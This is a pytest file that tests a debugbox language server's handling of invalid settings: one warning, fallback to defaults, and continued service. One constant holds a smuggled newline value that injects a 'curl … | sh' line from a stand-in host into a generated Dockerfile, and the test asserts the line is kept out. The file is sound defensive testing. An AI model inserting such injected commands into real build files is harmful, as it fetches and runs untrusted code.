"""Invalid settings over the real protocol: one warning (window/showMessage) naming them, the defaults used,
and the server keeps answering (a timeout of 1e300 made `debugbox.listTargets` fail with -32603; a newline in
`debugImage.toolsImage` wrote a `RUN curl … | sh` line into Dockerfile.debug)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import pytest_lsp
from debugbox.core.wire import Command
from lsprotocol import types as lsp

from tests.lsp.conftest import (
    CONFIG,
    EditorClient,
    bare_capabilities,
    initialize_params,
    vscode_capabilities,
)

pytestmark = pytest.mark.lsp

HOSTILE_TOOLS_IMAGE = "busybox:musl AS tools\nRUN curl -fsSL https://evil.example/x | sh\nFROM busybox:musl"


@pytest_lsp.fixture(config=CONFIG)
async def fresh(lsp_client: EditorClient) -> Any:
    yield
    await lsp_client.shutdown_session()


async def test_invalid_timeouts_and_images_fall_back_with_one_warning(
    fresh: EditorClient, tmp_path: Path
) -> None:
    options = {
        "settings": {
            "docker": {"timeoutSeconds": 1e300},
            "kubernetes": {"timeoutSeconds": -1},
            "debugImage": {"toolsImage": HOSTILE_TOOLS_IMAGE},
        }
    }
    await fresh.initialize_session(initialize_params(tmp_path, vscode_capabilities(), options))
    await fresh.wait_for(lambda: any(m.type == lsp.MessageType.Warning for m in fresh.messages))
    (warning,) = [m.message for m in fresh.messages if m.type == lsp.MessageType.Warning]
    for key in ("docker.timeoutSeconds", "kubernetes.timeoutSeconds", "debugImage.toolsImage"):
        assert f"debugbox.{key}" in warning

    listing = await fresh.workspace_execute_command_async(
        lsp.ExecuteCommandParams(command=Command.LIST_TARGETS.value, arguments=[{"probe": False}])
    )
    assert isinstance(listing, dict) and "targets" in listing

    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text("FROM gcr.io/distroless/static-debian12\n")
    result = await fresh.workspace_execute_command_async(
        lsp.ExecuteCommandParams(
            command=Command.GENERATE_DEBUG_DOCKERFILE.value, arguments=[{"uri": dockerfile.as_uri()}]
        )
    )
    assert result.get("created"), result
    text = (tmp_path / "Dockerfile.debug").read_text()
    assert "evil.example" not in text and "busybox:musl" in text


def _warnings(client: EditorClient) -> list[str]:
    return [m.message for m in client.messages if m.type == lsp.MessageType.Warning]


async def test_a_settings_payload_that_is_not_an_object_is_one_warning(
    fresh: EditorClient, tmp_path: Path
) -> None:
    options = {"settings": "sidecar"}
    await fresh.initialize_session(initialize_params(tmp_path, vscode_capabilities(), options))
    await fresh.wait_for(lambda: bool(_warnings(fresh)))
    (warning,) = _warnings(fresh)
    assert "debugbox settings must be an object, got str" in warning and "using defaults" in warning
    listing = await fresh.workspace_execute_command_async(
        lsp.ExecuteCommandParams(command=Command.LIST_TARGETS.value, arguments=[{"probe": False}])
    )
    assert isinstance(listing, dict) and "targets" in listing  # still serving, on the defaults
    assert len(_warnings(fresh)) == 1  # a second one would have come before this answer


async def test_a_pushed_group_that_is_not_an_object_is_named_and_the_rest_applies(
    fresh: EditorClient, tmp_path: Path
) -> None:
    await fresh.initialize_session(initialize_params(tmp_path, bare_capabilities()))
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text("FROM alpine:3.20\n")
    pushed = {"debugbox": {"docker": "fast", "debugImage": {"appImage": "example/app:7"}}}
    fresh.workspace_did_change_configuration(lsp.DidChangeConfigurationParams(settings=pushed))
    await fresh.wait_for(lambda: bool(_warnings(fresh)))
    (warning,) = _warnings(fresh)
    assert "invalid value for debugbox.docker: 'fast' (expected an object of settings)" in warning
    result = await fresh.workspace_execute_command_async(
        lsp.ExecuteCommandParams(
            command=Command.GENERATE_DEBUG_DOCKERFILE.value, arguments=[{"uri": dockerfile.as_uri()}]
        )
    )
    assert result.get("created"), result
    assert "ARG APP_IMAGE=example/app:7" in (tmp_path / "Dockerfile.debug").read_text()
    assert len(_warnings(fresh)) == 1  # a second one would have come before this answer
